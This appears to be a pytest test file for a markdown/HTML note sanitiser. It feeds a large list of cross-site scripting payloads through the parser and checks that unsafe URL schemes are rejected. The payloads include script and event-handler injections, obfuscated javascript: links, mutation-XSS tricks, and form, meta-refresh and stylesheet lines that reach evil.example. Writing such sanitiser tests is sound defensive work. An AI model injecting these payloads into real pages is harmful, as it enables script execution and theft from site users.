"""Hostile HTML and addresses: nothing that runs, frames, posts or loads comes through."""

from __future__ import annotations

import html
from itertools import product

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from paperkb.notes.parse import parse_note
from paperkb.notes.sanitise import is_remote, is_safe_url, sanitise
from paperkb.notes.text import SLOT_CLOSE, SLOT_OPEN
from tests.notes.test_parse import check_laws

HOSTILE = """
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img src="x" ONERROR = 'alert(1)'>
<img/src=x/onerror=alert(1)>
<img src=`x` onerror=alert(1)>
<img src="javascript:alert(1)">
<img src="data:image/svg+xml,<svg onload=alert(1)>">
<img srcset="https://evil.example/x.png 2x">
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><use href="data:image/svg+xml,x#y"></use></svg>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<style>@import url(https://evil.example)</style>
<b style="background:url(javascript:alert(1))">x</b>
<form action="https://evil.example"><input name=p></form>
<button formaction="javascript:alert(1)">x</button>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example">
<link rel=stylesheet href="https://evil.example/x.css">
<object data="javascript:alert(1)"></object><embed src="x.swf">
<video src="https://evil.example/x.mp4" onloadstart=alert(1)></video>
<audio src=x onerror=alert(1)>
<details open ontoggle=alert(1)>x</details>
<a href="javascript:alert(1)">x</a>
<a href=" &#14; javascript:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="&#x6a;avascript&colon;alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="vbscript:x" target=_top ping="https://evil.example">x</a>
<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=x&gt;">
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>"></style></svg>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
<template><script>alert(1)</script></template>
<title><img src=x onerror=alert(1)></title>
<xmp><img src=x onerror=alert(1)></xmp>
<plaintext><img src=x onerror=alert(1)>
<!--><script>alert(1)</script>-->
<!--x--!><script>alert(1)</script>-->
<![CDATA[><script>alert(1)</script>]]>
<?xml ><script>alert(1)</script>?>
<!x><script>alert(1)</script>
<b title="&#xfdd0;0&#xfdd1;">&#xfdd0;0&#xfdd1;&#64976;0&#64977;&#xFDD0</b>
<img src="&#xfdd0;https://evil.example/x.png">
<a href="﷐0﷑" title='﷐0﷑'>﷐0﷑</a>
<div class="x" id="y" onmouseover="alert(1)" data-x="y">z</div>
<area href="javascript:alert(1)"><map name=x></map>
<marquee onstart=alert(1)>x</marquee>
<p <b onclick=alert(1)>
<a href="x.md" onclick="alert(1)" href="javascript:alert(1)">x</a>
<a title="x>" href="javascript:alert(1)">y</a>
<a title=">" onclick=alert(1)>y</a>
[x](javascript:alert(1))
[x](JAVASCRIPT:alert(1) "t")
[x](<java	script:alert(1)>)
[x](java&#9;script:alert(1))
[x](&#106;&#97;vascript:alert(1))
[x](javascript&colon;alert(1))
[x](\\javascript:alert(1))
[x](data:text/html;base64,PHNjcmlwdD4=)
[x](vbscript:alert(1))
[x]( javascript:alert(1))
[x]("onclick="alert(1))
[x](y.md "\\"onclick=\\"alert(1)")
[x](https://a.example/"onmouseover="alert(1))
![x](javascript:alert(1))
![x" onerror="alert(1)](y.png)
![x](https://a.example/x.png" onerror="alert(1))
![x](data:image/svg+xml,x)
[<script>alert(1)</script>](y.md)
[<img src=x onerror=alert(1)>](y.md)
[![<svg onload=alert(1)>](a.png)](b.md)
[x][r]\n\n[r]: javascript:alert(1)
<javascript:alert(1)>
<data:text/html,x>
https://a.example/"onmouseover="alert(1)
[[x|<script>alert(1)</script>]]
[[<img src=x onerror=alert(1)>]]
![[x" onerror="alert(1).png]]
[@x, <script>alert(1)</script>]
#x<script>alert(1)</script>
`<script>alert(1)</script>`
```<script>\n<script>alert(1)</script>\n```
```"onclick="x\nx\n```
# <script>alert(1)</script>
# x" onclick="alert(1)
> [!"><script>x] y
> [!x"onclick=y] z
> [!note] <script>alert(1)</script>
| <script>x</script> |\n|---|\n| <img src=x onerror=y> |
$\\text{<script>alert(1)</script>}$
$\\href{javascript:alert(1)}{x}$
$</math><script>alert(1)</script>$
$$\\unknown<img src=x onerror=alert(1)>$$
[^<script>x</script>]\n\n[^<script>x</script>]: <script>y</script>
^<script>
`<!--` <script>alert(1)</script> `-->`
\\<!-- <script>alert(1)</script> --\\>
&lt;script&gt;alert(1)&lt;/script&gt;
<<script>script>alert(1)<</script>/script>
""".strip().split("\n")
AROUND = (
    "{}",
    "Text {} text.",
    "- {}",
    "> {}",
    "**{}** <b>x</b>",
    "<div>{}</div>",
    "%% x %% {} <!-- y -->",
)


@pytest.mark.parametrize("written", HOSTILE)
def test_hostile_notes(written: str) -> None:
    written = written.replace("\\n", "\n").replace("\\\\", "\\")
    for around in AROUND:
        data = around.format(written).encode()
        check_laws(data, parse_note(data))


@settings(max_examples=150)
@given(
    st.lists(st.sampled_from(HOSTILE), min_size=2, max_size=4), st.sampled_from(["", " ", "\n\n"])
)
def test_hostile_notes_together(written: list[str], between: str) -> None:
    data = between.join(written).encode()
    check_laws(data, parse_note(data))


def test_own_marks_in_addresses_are_the_only_image_sources() -> None:
    own = f'<img src="{SLOT_OPEN}0{SLOT_CLOSE}">'
    assert sanitise(own) == own
    assert sanitise('<img src="x.png">') == "<img>"


@pytest.mark.parametrize(
    ("url", "safe"),
    [
        ("other.md", True),
        ("../x/y.md#z", True),
        ("#x", True),
        ("", True),
        ("https://example.org", True),
        ("HTTP://example.org", True),
        ("mailto:a@b.org", True),
        ("//example.org", True),
        ("a/b:c.md", True),
        ("javascript:x", False),
        ("file:///etc/passwd", False),
        ("data:,x", False),
        ("blob:x", False),
        ("tel:1", False),
        ("C:\\x", False),
        ("\\\\evil.example", False),
        ("/\\evil.example", False),
    ],
)
def test_safe_addresses(url: str, safe: bool) -> None:
    assert is_safe_url(url) is safe


@pytest.mark.parametrize(
    ("scheme", "sign"),
    list(
        product(
            ("javascript:x", "data:x"), ("\t", "\n", "\r", " ", "\x00", "\x01", "\u2028", "\xa0")
        )
    ),
)
def test_signs_that_browsers_ignore_hide_no_scheme(scheme: str, sign: str) -> None:
    assert not is_safe_url(sign + scheme)
    assert not is_safe_url(scheme[:3] + sign + scheme[3:])
    assert not is_safe_url(scheme.upper().replace(":", sign + ":"))


@pytest.mark.parametrize(
    ("url", "remote"),
    [("x.md", False), ("/x", False), ("#x", False), ("https://x", True), ("//x", True),
     ("mailto:x", True), ("http://[", True)],
)  # fmt: skip
def test_remote_addresses(url: str, remote: bool) -> None:
    assert is_remote(url) is remote


@given(st.text())
def test_escaped_text_is_only_text(text: str) -> None:
    assert "<" not in sanitise(html.escape(text))
